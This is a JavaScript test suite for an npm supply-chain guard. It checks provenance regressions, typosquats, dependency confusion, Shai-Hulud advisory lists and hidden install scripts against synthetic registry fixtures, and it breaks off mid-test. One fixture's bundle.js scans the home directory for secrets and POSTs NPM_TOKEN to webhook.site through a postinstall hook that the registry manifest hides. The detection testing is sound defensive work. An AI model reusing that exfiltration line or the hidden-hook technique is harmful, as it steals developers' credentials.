'use strict'

// guard(): the policy rules over a lockfile, on the fixture registry. Where an attack needs a
// version that does not exist in the real data (a release without provenance after releases
// with it, a swapped repository), the registry serves a SYNTHETIC edit of a real packument;
// each such test says so.

const assert = require('node:assert/strict')
const fs = require('node:fs')
const path = require('node:path')
const { execFile } = require('node:child_process')
const { promisify } = require('node:util')
const { test, before, after } = require('node:test')

const pn = require('..')
const { startRegistry } = require('./registry')
const { tmpdir, project, rejectsWith, makeTgz, sri } = require('./helpers')

const DATA = path.resolve(__dirname, '../testdata/data')
const BIN = path.join(__dirname, '..', 'bin', 'prov-native.js')
const run = promisify(execFile)

// SYNTHETIC: sigstore@5.0.1, published after 5.0.0 with the same manifest but without
// attestations or registry signature — the shape of the lottie-player compromise.
function addUnattestedRelease (doc) {
  const m = JSON.parse(JSON.stringify(doc.versions['5.0.0']))
  m.version = '5.0.1'
  delete m.dist.attestations
  delete m.dist.signatures
  doc.versions['5.0.1'] = m
  doc.time['5.0.1'] = new Date(Date.parse(doc.time['5.0.0']) + 86400000).toISOString()
  doc['dist-tags'].latest = '5.0.1'
}

// The guard reads CI settings from the environment (Extra::from_env): these tests set them
// where they test them, so a CI runner's own values must not leak in.
for (const k of ['CI', 'GITHUB_BASE_REF', 'CI_MERGE_REQUEST_DIFF_BASE_SHA', 'PROV_NATIVE_SCAN_ALL']) delete process.env[k]

let reg
before(async () => {
  reg = await startRegistry({
    overrides: {
      sigstore: (doc) => { addUnattestedRelease(doc) }
    }
  })
})
after(async () => { await reg.close() })

const rules = (r) => r.findings.map((f) => `${f.rule}:${f.level}:${f.name}@${f.version}`)

// The shipped JSON Schema, and a validator for the part of JSON Schema it uses (an unknown
// keyword fails the test). Every config these tests write is checked against it, so the schema
// and the native config parser cannot drift apart unnoticed.
const SCHEMA = JSON.parse(fs.readFileSync(path.join(__dirname, '..', 'schema', 'prov-native.config.schema.json'), 'utf8'))
const SCHEMA_KEYWORDS = new Set(['$schema', '$id', 'title', 'description', 'type', 'enum', 'oneOf', 'properties', 'additionalProperties', 'required', 'items', 'minLength', 'minimum', 'pattern'])
function schemaErrors (s, v, at = '') {
  for (const k of Object.keys(s)) assert.ok(SCHEMA_KEYWORDS.has(k), `validator does not know ${k} (at ${at})`)
  const errs = []
  const isObj = (x) => x !== null && typeof x === 'object' && !Array.isArray(x)
  if (s.type) {
    const ok = { object: isObj(v), array: Array.isArray(v), string: typeof v === 'string', boolean: typeof v === 'boolean', number: typeof v === 'number' }[s.type]
    assert.ok(ok !== undefined, `type ${s.type}`)
    if (!ok) return [`${at}: not a ${s.type}`]
  }
  if (s.enum && !s.enum.some((e) => JSON.stringify(e) === JSON.stringify(v))) errs.push(`${at}: ${JSON.stringify(v)} not in enum`)
  if (s.oneOf) {
    const n = s.oneOf.filter((alt) => schemaErrors(alt, v, at).length === 0).length
    if (n !== 1) errs.push(`${at}: ${n} of oneOf match`)
  }
  if (typeof v === 'string') {
    if (s.minLength !== undefined && [...v].length < s.minLength) errs.push(`${at}: too short`)
    if (s.pattern !== undefined && !new RegExp(s.pattern, 'u').test(v)) errs.push(`${at}: does not match ${s.pattern}`)
  }
  if (typeof v === 'number' && s.minimum !== undefined && v < s.minimum) errs.push(`${at}: below ${s.minimum}`)
  if (isObj(v)) {
    for (const r of s.required || []) if (!(r in v)) errs.push(`${at}: missing ${r}`)
    for (const [k, x] of Object.entries(v)) {
      if (s.properties && s.properties[k]) errs.push(...schemaErrors(s.properties[k], x, `${at}/${k}`))
      else if (s.additionalProperties === false) errs.push(`${at}: unknown field ${k}`)
    }
  }
  if (Array.isArray(v) && s.items) v.forEach((x, i) => errs.push(...schemaErrors(s.items, x, `${at}/${i}`)))
  return errs
}

function withConfig (dir, config, { invalid = false } = {}) {
  const errs = schemaErrors(SCHEMA, config)
  if (invalid) assert.ok(errs.length > 0, `the schema accepts a config the test calls invalid: ${JSON.stringify(config)}`)
  else assert.deepEqual(errs, [], `config used by a test is not valid under the shipped schema: ${JSON.stringify(config)}`)
  fs.writeFileSync(path.join(dir, 'prov-native.config.json'), JSON.stringify(config, null, 2))
}

// guard() through the public API, checking what every result must satisfy: each finding
// carries evidence.
async function guard (options) {
  const r = await pn.guard(options)
  for (const f of [...r.findings, ...r.allowed]) {
    assert.ok(Array.isArray(f.evidence) && f.evidence.length > 0 && f.evidence.every((e) => typeof e === 'string' && e.length > 0),
      `finding without evidence: ${JSON.stringify(f)}`)
  }
  return r
}

test('guard: a verified tree has no error-level finding', async () => {
  const dir = project(reg, ['sigstore@1.0.0', 'tuf-js@1.0.0'])
  const r = await guard({ cwd: dir, cache: false })
  assert.equal(r.errors, 0, JSON.stringify(r.findings, null, 2))
  assert.equal(r.audit.verified, 2)
  assert.equal(r.config, '<defaults>')
  assert.ok(r.skipped.some((s) => /majorUpdate/.test(s)), 'says that no previous lockfile was found')
})

test('provenanceRegression: a release without provenance after one with verified provenance (synthetic release)', async () => {
  const dir = project(reg, ['sigstore@5.0.1'])
  const r = await guard({ cwd: dir, cache: false })
  const f = r.findings.find((x) => x.rule === 'provenanceRegression')
  assert.ok(f, rules(r).join('\n'))
  assert.equal(f.level, 'error')
  assert.match(f.message, /sigstore@5\.0\.0 was published with verified provenance/)
  assert.match(f.evidence[0], /github\.com\/sigstore\/sigstore-js/)
  assert.ok(r.errors > 0)
})

test('provenanceRegression: the earlier provenance must verify, not just be advertised', async () => {
  // SYNTHETIC: sigstore@5.0.0's attestations replaced by tuf-js@1.0.0's (valid bundles about
  // another package). The regression is then not claimed as verified: a warning says why.
  const other = JSON.parse(fs.readFileSync(path.join(__dirname, '../testdata/fixtures/attestations/tuf-js-1.0.0.json'), 'utf8'))
  const bad = await startRegistry({ overrides: { sigstore: addUnattestedRelease }, attestationOverrides: { 'sigstore@5.0.0': other } })
  try {
    const dir = project(bad, ['sigstore@5.0.1'])
    const r = await guard({ cwd: dir, cache: false })
    const f = r.findings.find((x) => x.rule === 'provenanceRegression')
    assert.ok(f, rules(r).join('\n'))
    assert.equal(f.level, 'warn')
    assert.match(f.evidence[0], /ERR_PROV_SUBJECT/)
  } finally { await bad.close() }
})

test('provenanceRegression: a version without a publish time is said to be unchecked, not passed', async () => {
  // SYNTHETIC: sigstore@5.0.1 as above, but the packument gives it no publish time.
  const bad = await startRegistry({ overrides: { sigstore: (doc) => { addUnattestedRelease(doc); delete doc.time['5.0.1'] } } })
  try {
    const dir = project(bad, ['sigstore@5.0.1'])
    const r = await guard({ cwd: dir, cache: false })
    assert.ok(!r.findings.some((x) => x.rule === 'provenanceRegression'), rules(r).join('\n'))
    assert.ok(r.skipped.some((s) => /^provenanceRegression: the packument gives this version no publish time.*sigstore@5\.0\.1/.test(s)), r.skipped.join('\n'))
  } finally { await bad.close() }
})

test('sourceMatch: provenance from another repository than package.json declares (synthetic StarJacking)', async () => {
  const bad = await startRegistry({
    overrides: { sigstore: (doc) => { doc.versions['1.0.0'].repository = { type: 'git', url: 'git+https://github.com/popular/sigstore-js.git' } } }
  })
  try {
    const dir = project(bad, ['sigstore@1.0.0'])
    withConfig(dir, { rules: { sourceMatch: 'error' } })
    const r = await guard({ cwd: dir, cache: false })
    const f = r.findings.find((x) => x.rule === 'sourceMatch')
    assert.ok(f, rules(r).join('\n'))
    assert.equal(f.level, 'error')
    assert.match(f.message, /built from https:\/\/github\.com\/sigstore\/sigstore-js, but package\.json declares https:\/\/github\.com\/popular\/sigstore-js/)
    // an allow-list by owner accepts it
    withConfig(dir, { rules: { sourceMatch: { level: 'error', owners: ['sigstore'] } } })
    const ok = await guard({ cwd: dir, cache: false })
    assert.ok(!ok.findings.some((x) => x.rule === 'sourceMatch'))
  } finally { await bad.close() }
})

test('requireProvenance and exceptions (valid and expired)', async () => {
  const dir = project(reg, ['sigstore@5.0.1', 'tuf-js@1.0.0'])
  withConfig(dir, {
    rules: { requireProvenance: { level: 'error', packages: ['sigstore', 'tuf-*'] } },
    exceptions: [{ package: 'sigstore@5.0.1', rules: ['requireProvenance', 'provenanceRegression'], reason: 'vendor confirmed the release', expires: '2099-12-31' }]
  })
  let r = await guard({ cwd: dir, cache: false })
  assert.ok(!r.findings.some((f) => f.rule === 'requireProvenance'), rules(r).join('\n'))
  assert.ok(r.allowed.some((f) => f.rule === 'requireProvenance' && /vendor confirmed/.test(f.allowedBy)))
  withConfig(dir, {
    rules: { requireProvenance: { level: 'error', packages: ['sigstore'] } },
    exceptions: [{ package: 'sigstore', reason: 'temporary', expires: '2020-01-01' }]
  })
  r = await guard({ cwd: dir, cache: false })
  assert.ok(r.findings.some((f) => f.rule === 'requireProvenance' && f.level === 'error'))
  assert.ok(r.findings.some((f) => f.rule === 'exceptionExpired' && /expired on 2020-01-01/.test(f.message)))
})

test('majorUpdate and minReleaseAge against the previous lockfile', async () => {
  const prevDir = project(reg, ['sigstore@1.0.0'])
  const dir = project(reg, ['sigstore@5.0.1'])
  withConfig(dir, { rules: { majorUpdate: 'error', minReleaseAge: { level: 'warn', days: 36500 } } })
  const r = await guard({ cwd: dir, cache: false, previousLockfile: path.join(prevDir, 'package-lock.json') })
  assert.ok(r.findings.some((f) => f.rule === 'majorUpdate' && /1\.0\.0 -> 5\.0\.1/.test(f.message)), rules(r).join('\n'))
  assert.ok(r.findings.some((f) => f.rule === 'minReleaseAge' && f.name === 'sigstore'))
  assert.ok(!r.skipped.some((s) => /majorUpdate/.test(s)))
})

test('publisherChange and new install scripts, from the packument history (synthetic edits)', async () => {
  // SYNTHETIC: sigstore@1.0.0 re-published by someone new with a postinstall hook, in the
  // registry manifest and in the tarball (the guard reads the hooks npm will run from the
  // tarball itself).
  const hooked = makeTgz({ 'package.json': JSON.stringify({ name: 'sigstore', version: '1.0.0', scripts: { postinstall: 'node setup_bun.js' } }), 'setup_bun.js': '// synthetic\n' })
  const bad = await startRegistry({
    overrides: {
      sigstore: (doc) => {
        doc.versions['0.4.0']._npmUser = { name: 'maintainer' }
        doc.versions['1.0.0']._npmUser = { name: 'someone-new' }
        doc.versions['1.0.0'].scripts = { ...(doc.versions['1.0.0'].scripts || {}), postinstall: 'node setup_bun.js' }
        doc.versions['1.0.0'].dist.integrity = sri(hooked)
      }
    },
    tarballOverrides: { 'sigstore@1.0.0': hooked }
  })
  try {
    const dir = project(bad, ['sigstore@1.0.0'])
    const r = await guard({ cwd: dir, cache: false })
    assert.ok(r.findings.some((f) => f.rule === 'publisherChange' && /someone-new/.test(f.message)), rules(r).join('\n'))
    assert.ok(r.findings.some((f) => f.rule === 'installScripts' && /postinstall/.test(f.message + f.evidence.join())), rules(r).join('\n'))
  } finally { await bad.close() }
})

test('typosquatting: jqeury imitates jquery', async () => {
  const dir = project(reg, ['sigstore@1.0.0'], (p) => {
    p['node_modules/jqeury'] = { version: '1.0.0', resolved: `${reg.url}jqeury/-/jqeury-1.0.0.tgz`, integrity: p['node_modules/sigstore'].integrity }
  })
  const r = await guard({ cwd: dir, cache: false })
  const f = r.findings.find((x) => x.rule === 'typosquat')
  assert.ok(f, rules(r).join('\n'))
  assert.equal(f.name, 'jqeury')
  assert.match(f.message + f.evidence.join(' '), /jquery/)
  assert.ok(!r.findings.some((x) => x.rule === 'typosquat' && x.name === 'sigstore'))
})

test('dependencyConfusion: a private scope resolved from the wrong registry, at 99.x', async () => {
  const dir = project(reg, ['sigstore@1.0.0'], (p) => {
    p['node_modules/@corp/internal-lib'] = { version: '99.0.0', resolved: `${reg.url}@corp/internal-lib/-/internal-lib-99.0.0.tgz`, integrity: p['node_modules/sigstore'].integrity }
  })
  fs.appendFileSync(path.join(dir, '.npmrc'), '@corp:registry=http://127.0.0.1:9/private/\n')
  withConfig(dir, { rules: { dependencyConfusion: { level: 'error', private: ['internal-*'] } } })
  const r = await guard({ cwd: dir, cache: false })
  const fs_ = r.findings.filter((x) => x.rule === 'dependencyConfusion' && x.name === '@corp/internal-lib')
  assert.ok(fs_.some((f) => /its scope is configured to come from http:\/\/127\.0\.0\.1:9\/private\//.test(f.message)), rules(r).join('\n'))
  assert.ok(fs_.some((f) => /99\.0\.0/.test(f.message)))
})

test('advisories: every Shai-Hulud 2.0 package@version in a lockfile is flagged', async () => {
  const csv = path.join(DATA, 'incident-lists/datadog-shai-hulud-2.0/shai-hulud-2.0.csv')
  assert.ok(fs.existsSync(csv), `missing data ${csv}`)
  const rows = fs.readFileSync(csv, 'utf8').trim().split('\n').slice(1).map((l) => l.split(',').map((c) => c.trim().replace(/^"|"$/g, '')))
  assert.ok(rows.length > 500, `${rows.length} rows in the Datadog list`)
  // Every row is in the lockfile: a name listed with several versions is installed once at
  // the top and nested under a (SYNTHETIC) holder package for each further version, as npm
  // does with conflicting versions.
  const dir = project(reg, ['sigstore@1.0.0'], (p) => {
    rows.forEach(([name, version], i) => {
      const entry = { version, resolved: `${reg.url}${name}/-/x-${version}.tgz`, integrity: p['node_modules/sigstore'].integrity }
      if (!p[`node_modules/${name}`]) p[`node_modules/${name}`] = entry
      else p[`node_modules/shai-hulud-holder-${i}/node_modules/${name}`] = entry
    })
  })
  const lock = JSON.parse(fs.readFileSync(path.join(dir, 'package-lock.json'), 'utf8'))
  const inLock = Object.entries(lock.packages).filter(([k]) => k.startsWith('node_modules/')).map(([k, v]) => `${k.slice(k.lastIndexOf('node_modules/') + 13)}@${v.version}`)
  withConfig(dir, { rules: { advisories: { level: 'error', sources: [csv] } } })
  const r = await guard({ cwd: dir, cache: false, offline: true })
  const flagged = new Set(r.findings.filter((f) => f.rule === 'advisories').map((f) => `${f.name}@${f.version}`))
  const expected = inLock.filter((s) => rows.some(([n, v]) => `${n}@${v}` === s))
  assert.ok(expected.length > 400, `${expected.length} Shai-Hulud versions in the lockfile`)
  for (const s of expected) assert.ok(flagged.has(s), `${s} not flagged`)
  const all = new Set(rows.map(([n, v]) => `${n}@${v}`))
  assert.equal(new Set(expected).size, all.size, 'every row of the list is in the lockfile')
  for (const s of all) assert.ok(flagged.has(s), `${s} (a row of the list) not flagged`)
  assert.ok(!flagged.has('sigstore@1.0.0'))
})

test('guard: an invalid policy file is a configuration error', async () => {
  const dir = project(reg, ['sigstore@1.0.0'])
  withConfig(dir, { rules: { requireProvenanse: 'error' } }, { invalid: true })
  await rejectsWith(pn.guard({ cwd: dir, cache: false }), 'ERR_PROV_CONFIG')
  const r = await run(process.execPath, [BIN, 'guard'], { cwd: dir }).catch((e) => e)
  assert.equal(r.code, 2)
  assert.match(r.stderr, /unknown rule "requireProvenanse"/)
})

test('guard CLI: exit 1 on an error-level finding, 0 otherwise', async () => {
  const good = project(reg, ['sigstore@1.0.0', 'tuf-js@1.0.0'])
  const ok = await run(process.execPath, [BIN, 'guard', '--no-cache'], { cwd: good })
  assert.match(ok.stdout, /0 error\(s\)/)
  const badDir = project(reg, ['sigstore@5.0.1'])
  const bad = await run(process.execPath, [BIN, 'guard', '--no-cache'], { cwd: badDir }).catch((e) => e)
  assert.equal(bad.code, 1)
  assert.match(bad.stdout, /ERROR provenanceRegression/)
  const json = await run(process.execPath, [BIN, 'guard', '--no-cache', '--json'], { cwd: badDir }).catch((e) => e)
  assert.ok(JSON.parse(json.stdout).findings.length > 0)
})

// A real npm project, created here, with the guard as its preinstall hook. The dependency is
// a SYNTHETIC package `jqeury` served from a loopback registry made for this test.
test('guard as a preinstall hook: npm install fails on a typosquat', async () => {
  const http = require('node:http')
  const tgz = makeTgz({ 'package.json': JSON.stringify({ name: 'jqeury', version: '1.0.0', main: 'index.js' }), 'index.js': 'module.exports = 1\n' })
  const server = http.createServer((req, res) => {
    const base = `http://127.0.0.1:${server.address().port}/`
    if (req.url === '/jqeury') {
      res.setHeader('content-type', 'application/json')
      return res.end(JSON.stringify({
        name: 'jqeury',
        'dist-tags': { latest: '1.0.0' },
        // A young package, as typosquats are (an old one would only be a warning).
        time: { created: new Date(Date.now() - 3 * 86400000).toISOString(), '1.0.0': new Date(Date.now() - 3 * 86400000).toISOString() },
        versions: { '1.0.0': { name: 'jqeury', version: '1.0.0', main: 'index.js', dist: { tarball: `${base}jqeury/-/jqeury-1.0.0.tgz`, integrity: sri(tgz) } } }
      }))
    }
    if (req.url === '/jqeury/-/jqeury-1.0.0.tgz') return res.end(tgz)
    res.statusCode = 404
    res.end('{}')
  })
  await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve))
  try {
    const dir = tmpdir()
    const url = `http://127.0.0.1:${server.address().port}/`
    fs.writeFileSync(path.join(dir, '.npmrc'), `registry=${url}\n`)
    fs.writeFileSync(path.join(dir, 'package.json'), JSON.stringify({
      name: 'hook-app',
      version: '1.0.0',
      scripts: { preinstall: `node ${JSON.stringify(BIN)} guard --no-cache` },
      dependencies: { jqeury: '1.0.0' }
    }))
    // The lockfile the guard reads (as a committed one would be).
    fs.writeFileSync(path.join(dir, 'package-lock.json'), JSON.stringify({
      name: 'hook-app',
      version: '1.0.0',
      lockfileVersion: 3,
      requires: true,
      packages: {
        '': { name: 'hook-app', version: '1.0.0', dependencies: { jqeury: '1.0.0' } },
        'node_modules/jqeury': { version: '1.0.0', resolved: `${url}jqeury/-/jqeury-1.0.0.tgz`, integrity: sri(tgz) }
      }
    }))
    const r = await run('npm', ['install', '--no-audit', '--no-fund'], { cwd: dir }).catch((e) => e)
    assert.notEqual(r.code, undefined, 'npm install must fail')
    assert.notEqual(r.code, 0)
    assert.match(r.stdout + r.stderr, /typosquat/)
    // Without the typosquat the same hook lets the install through.
    const okDir = tmpdir()
    fs.writeFileSync(path.join(okDir, '.npmrc'), `registry=${url}\n`)
    fs.writeFileSync(path.join(okDir, 'package.json'), JSON.stringify({ name: 'hook-ok', version: '1.0.0', scripts: { preinstall: `node ${JSON.stringify(BIN)} guard --no-cache` } }))
    fs.writeFileSync(path.join(okDir, 'package-lock.json'), JSON.stringify({ name: 'hook-ok', version: '1.0.0', lockfileVersion: 3, requires: true, packages: { '': { name: 'hook-ok', version: '1.0.0' } } }))
    await run('npm', ['install', '--no-audit', '--no-fund'], { cwd: okDir })
  } finally {
    server.close()
  }
})

test('suspiciousCode and manifestConfusion from the tarball (synthetic Shai-Hulud-style release)', async () => {
  const evil = makeTgz({
    'package.json': JSON.stringify({ name: 'sigstore', version: '1.0.0', scripts: { postinstall: 'node bundle.js' } }),
    'bundle.js': "require('child_process').execSync('trufflehog filesystem ~'); fetch('https://webhook.site/x', { method: 'POST', body: process.env.NPM_TOKEN })"
  })
  const bad = await startRegistry({
    overrides: {
      sigstore: (doc) => {
        const m = doc.versions['1.0.0']
        m.dist.integrity = sri(evil)
        // What the registry shows: no install script (the tarball has one).
        delete m.scripts
      }
    },
    tarballOverrides: { 'sigstore@1.0.0': evil }
  })
  try {
    const dir = project(bad, ['sigstore@1.0.0'])
    const r = await guard({ cwd: dir, cache: false })
    const code = r.findings.filter((f) => f.rule === 'suspiciousCode')
    assert.ok(code.some((f) => f.level === 'error' && /code\.shai-hulud in bundle\.js/.test(f.message)), rules(r).join('\n'))
    assert.ok(code.some((f) => /code\.webhook-exfiltration/.test(f.message)))
    const mc = r.findings.find((f) => f.rule === 'manifestConfusion')
    assert.ok(mc && /scripts/.test(mc.message), rules(r).join('\n'))
    assert.ok(mc.evidence.some((e) => /postinstall/.test(e)))
  } finally { await bad.close() }
})

test('real fixture tarballs raise no suspiciousCode or manifestConfusion finding', async () => {
  const dir = project(reg, ['sigstore@1.0.0', 'tuf-js@1.0.0', 'sigstore@2.3.1'])
  const r = await guard({ cwd: dir, cache: false })
  assert.ok(!r.findings.some((f) => f.rule === 'suspiciousCode' || f.rule === 'manifestConfusion'), rules(r).join('\n'))
  assert.ok(!r.skipped.some((s) => /not scanned/.test(s)), r.skipped.join('\n'))
})

test('provenanceRegression behind a mirror: said to be unchecked, and found with attestationsRegistry', async () => {
  const mirror = await startRegistry({ mirror: true, overrides: { sigstore: addUnattestedRelease } })
  try {
    const dir = project(mirror, ['sigstore@5.0.1'])
    const plain = await guard({ cwd: dir, cache: false })
    assert.ok(!plain.findings.some((f) => f.rule === 'provenanceRegression'))
    assert.ok(plain.skipped.some((s) => /provenanceRegression.*attestationsRegistry/.test(s)), plain.skipped.join('\n'))
    const r = await guard({ cwd: dir, cache: false, attestationsRegistry: reg.url })
    const f = r.findings.find((x) => x.rule === 'provenanceRegression')
    assert.ok(f && f.level === 'error', rules(r).join('\n'))
  } finally { await mirror.close() }
})

// ---------------------------------------------------------------------------------------------
// A small registry of hand-made packuments (each test says which are SYNTHETIC): `docs` maps a
// name to its packument; names in `fail` answer 500; anything else 404.
async function miniRegistry (docs, { fail = [] } = {}) {
  const http = require('node:http')
  const requests = []
  const server = http.createServer((req, res) => {
    const name = decodeURIComponent(req.url.split('?')[0].slice(1))
    requests.push(name)
    res.setHeader('content-type', 'application/json')
    if (fail.includes(name)) {
      res.statusCode = 500
      return res.end('{"error":"synthetic failure"}')
    }
    if (docs[name]) return res.end(JSON.stringify(docs[name]))
    res.statusCode = 404
    res.end('{"error":"Not found"}')
  })
  await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve))
  const url = `http://127.0.0.1:${server.address().port}/`
  return { url, requests, close: () => new Promise((resolve) => server.close(resolve)) }
}

// A packument for `name` with one version; `created` sets its age.
function packumentOf (name, version, created) {
  return {
    name,
    'dist-tags': { latest: version },
    time: { created, modified: created, [version]: created },
    versions: { [version]: { _id: `${name}@${version}`, name, version, dist: { tarball: `http://127.0.0.1:9/${name}/-/x-${version}.tgz`, integrity: 'sha512-AAAA' } } }
  }
}

// A project over a hand-made npm v3 lockfile: `entries` maps lockfile paths to entries.
function lockProject (entries, npmrc) {
  const dir = tmpdir()
  const packages = { '': { name: 'synthetic-app', version: '1.0.0' }, ...entries }
  fs.writeFileSync(path.join(dir, 'package-lock.json'), JSON.stringify({ name: 'synthetic-app', version: '1.0.0', lockfileVersion: 3, requires: true, packages }, null, 2))
  fs.writeFileSync(path.join(dir, 'package.json'), JSON.stringify({ name: 'synthetic-app', version: '1.0.0' }))
  fs.writeFileSync(path.join(dir, '.npmrc'), npmrc)
  return dir
}

const git = (dir, ...args) => run('git', ['-c', 'user.name=t', '-c', 'user.email=t@example.com', '-c', 'commit.gpgsign=false', ...args], { cwd: dir })

test('sourceMatch: owners/repositories apply even when the built repository is the declared one (real sigstore provenance)', async () => {
  const dir = project(reg, ['sigstore@1.0.0'])
  // sigstore@1.0.0 declares and was built from github.com/sigstore/sigstore-js.
  withConfig(dir, { rules: { sourceMatch: 'error' } })
  let r = await guard({ cwd: dir, cache: false })
  assert.ok(!r.findings.some((f) => f.rule === 'sourceMatch'), rules(r).join('\n'))
  withConfig(dir, { rules: { sourceMatch: { level: 'error', owners: ['facebook'] } } })
  r = await guard({ cwd: dir, cache: false })
  const f = r.findings.find((x) => x.rule === 'sourceMatch')
  assert.ok(f && f.level === 'error', rules(r).join('\n'))
  assert.match(f.message, /built from https:\/\/github\.com\/sigstore\/sigstore-js, which is not in the allowed repositories or owners/)
  assert.ok(f.evidence.some((e) => /owners \[facebook\]/.test(e)))
  withConfig(dir, { rules: { sourceMatch: { level: 'error', repositories: ['https://github.com/facebook/react'] } } })
  r = await guard({ cwd: dir, cache: false })
  assert.ok(r.findings.some((x) => x.rule === 'sourceMatch'), rules(r).join('\n'))
  withConfig(dir, { rules: { sourceMatch: { level: 'error', repositories: ['git+https://github.com/sigstore/sigstore-js.git'] } } })
  r = await guard({ cwd: dir, cache: false })
  assert.ok(!r.findings.some((x) => x.rule === 'sourceMatch'), rules(r).join('\n'))
})

test('sourceMatch: workflows, refs, builders and denySelfHosted on real provenance', async () => {
  // Real: sigstore@1.0.0 was built by publish.yml from refs/tags/v1.0.0 (builder npm/cli@9.4.2);
  // sigstore@1.3.0 and 2.2.0 by release.yml from refs/heads/main, on GitHub-hosted runners.
  const dir = project(reg, ['sigstore@1.0.0', 'sigstore@1.3.0', 'sigstore@2.2.0'])
  const only = async (opts) => {
    withConfig(dir, { rules: { sourceMatch: { level: 'error', ...opts } } })
    const r = await guard({ cwd: dir, cache: false })
    return r.findings.filter((f) => f.rule === 'sourceMatch').map((f) => `${f.version} ${f.message}`).sort()
  }
  assert.deepEqual(await only({ refs: ['refs/tags/*'] }), ['1.3.0 ref refs/heads/main is not allowed', '2.2.0 ref refs/heads/main is not allowed'])
  assert.deepEqual(await only({ workflows: ['.github/workflows/release.yml'] }), ['1.0.0 workflow .github/workflows/publish.yml is not allowed'])
  assert.deepEqual(await only({ builders: ['https://github.com/actions/runner*'] }), ['1.0.0 builder https://github.com/npm/cli@9.4.2 is not allowed'])
  assert.deepEqual(await only({ workflows: ['.github/workflows/*.yml'], refs: ['refs/*'], builders: ['https://github.com/*'], denySelfHosted: true }), [])
})

test('provenanceContinuity: the workflow and builder changed between real sigstore releases', async () => {
  const dir = project(reg, ['sigstore@1.3.0'])
  const r = await guard({ cwd: dir, cache: false })
  const f = r.findings.find((x) => x.rule === 'provenanceContinuity')
  assert.ok(f, rules(r).join('\n'))
  assert.equal(f.level, 'warn')
  assert.match(f.message, /provenance changed since 1\.0\.0/)
  assert.ok(f.evidence.includes('workflow .github/workflows/publish.yml -> .github/workflows/release.yml'), f.evidence.join('\n'))
  withConfig(dir, { rules: { provenanceContinuity: 'error' } })
  assert.equal((await guard({ cwd: dir, cache: false })).findings.find((x) => x.rule === 'provenanceContinuity').level, 'error')
  withConfig(dir, { rules: { provenanceContinuity: 'off' } })
  assert.ok(!(await guard({ cwd: dir, cache: false })).findings.some((x) => x.rule === 'provenanceContinuity'))
})

test('requireProvenance with publishAttestation: real sigstore@2.2.0 has provenance but no publish attestation', async () => {
  const dir = project(reg, ['sigstore@2.2.0', 'tuf-js@1.0.0'])
  withConfig(dir, { rules: { requireProvenance: { level: 'error', packages: ['sigstore', 'tuf-js'] } } })
  let r = await guard({ cwd: dir, cache: false })
  assert.ok(!r.findings.some((f) => f.rule === 'requireProvenance'), rules(r).join('\n'))
  withConfig(dir, { rules: { requireProvenance: { level: 'error', packages: ['sigstore', 'tuf-js'], publishAttestation: true } } })
  r = await guard({ cwd: dir, cache: false })
  const f = r.findings.filter((x) => x.rule === 'requireProvenance')
  assert.deepEqual(f.map((x) => `${x.name}@${x.version}`), ['sigstore@2.2.0'], rules(r).join('\n'))
  assert.equal(f[0].message, 'no verified npm publish attestation')
  assert.equal(f[0].evidence[0], 'publish attestation check: missing')
  // `exclude` takes it out again.
  withConfig(dir, { rules: { requireProvenance: { level: 'error', packages: ['*'], exclude: ['sigstore', 'from-git'], publishAttestation: true } } })
  r = await guard({ cwd: dir, cache: false })
  assert.ok(!r.findings.some((x) => x.rule === 'requireProvenance'), rules(r).join('\n'))
})

test('requireProvenance: a git dependency cannot carry provenance (non-registry sources do not bypass the policy)', async () => {
  const dir = project(reg, ['sigstore@1.0.0'], (p) => {
    // SYNTHETIC git dependencies: one named like a typo of lodash.
    p['node_modules/lodahs'] = { version: '4.17.21', resolved: 'git+ssh://git@github.com/example/lodahs.git#0123456789abcdef0123456789abcdef01234567' }
  })
  const list = path.join(tmpdir(), 'incident.csv')
  fs.writeFileSync(list, 'package_name,package_version\nfrom-git,1.0.0\n')
  withConfig(dir, { rules: { requireProvenance: { level: 'error', packages: ['from-git', 'sigstore'] }, advisories: { level: 'error', sources: [list] } } })
  const r = await guard({ cwd: dir, cache: false })
  const f = r.findings.find((x) => x.rule === 'requireProvenance' && x.name === 'from-git')
  assert.ok(f && f.level === 'error', rules(r).join('\n'))
  assert.equal(f.message, 'git dependency: no provenance can exist')
  assert.ok(f.evidence.some((e) => /git\+ssh:\/\/git@github\.com\/example\/from-git/.test(e)))
  assert.ok(!r.findings.some((x) => x.rule === 'requireProvenance' && x.name === 'sigstore'))
  // Typosquatting and advisories apply by name.
  const t = r.findings.find((x) => x.rule === 'typosquat' && x.name === 'lodahs')
  assert.ok(t && t.level === 'error', rules(r).join('\n'))
  assert.ok(t.evidence.some((e) => /not from a registry/.test(e)), t.evidence.join('\n'))
  assert.ok(r.findings.some((x) => x.rule === 'advisories' && x.name === 'from-git'), rules(r).join('\n'))
  // What the guard could not read about git dependencies is said.
  assert.ok(r.skipped.some((s) => /git dependency.*not read: 2 packages/.test(s)), r.skipped.join('\n'))
})

test('packuments that cannot be fetched are listed per rule with counts (offline, 404)', async () => {
  const dir = project(reg, ['sigstore@1.0.0', 'tuf-js@1.0.0'])
  withConfig(dir, { rules: { installScripts: 'warn', publisherChange: 'warn' } })
  const r = await guard({ cwd: dir, cache: false, offline: true })
  for (const rule of ['installScripts', 'publisherChange']) {
    assert.ok(r.skipped.some((s) => new RegExp(`^${rule}: packument unavailable \\(.*offline.*\\): 2 packages \\(`).test(s)), `${rule}:\n${r.skipped.join('\n')}`)
  }
  for (const rule of ['provenanceRegression', 'provenanceContinuity', 'sourceMatch']) {
    assert.ok(r.skipped.some((s) => s.startsWith(`${rule}: provenance not checked: 2 packages`)), `${rule}:\n${r.skipped.join('\n')}`)
  }
  // A name the registry does not have (404).
  const dir404 = project(reg, ['sigstore@1.0.0'], (p) => {
    p['node_modules/not-on-this-registry'] = { version: '1.0.0', resolved: `${reg.url}not-on-this-registry/-/not-on-this-registry-1.0.0.tgz`, integrity: p['node_modules/sigstore'].integrity }
  })
  const r404 = await guard({ cwd: dir404, cache: false })
  assert.ok(r404.skipped.some((s) => /^publisherChange: packument unavailable \(404 at http:\/\/127\.0\.0\.1:\d+\/\): 1 package \(not-on-this-registry@1\.0\.0\)/.test(s)), r404.skipped.join('\n'))
  assert.ok(r404.skipped.some((s) => /^manifestConfusion: packument unavailable \(404/.test(s)), r404.skipped.join('\n'))
})

test('exceptions: every expired exception is a finding once, even one that no longer matches anything', async () => {
  const dir = project(reg, ['sigstore@5.0.1', 'tuf-js@1.0.0'])
  withConfig(dir, {
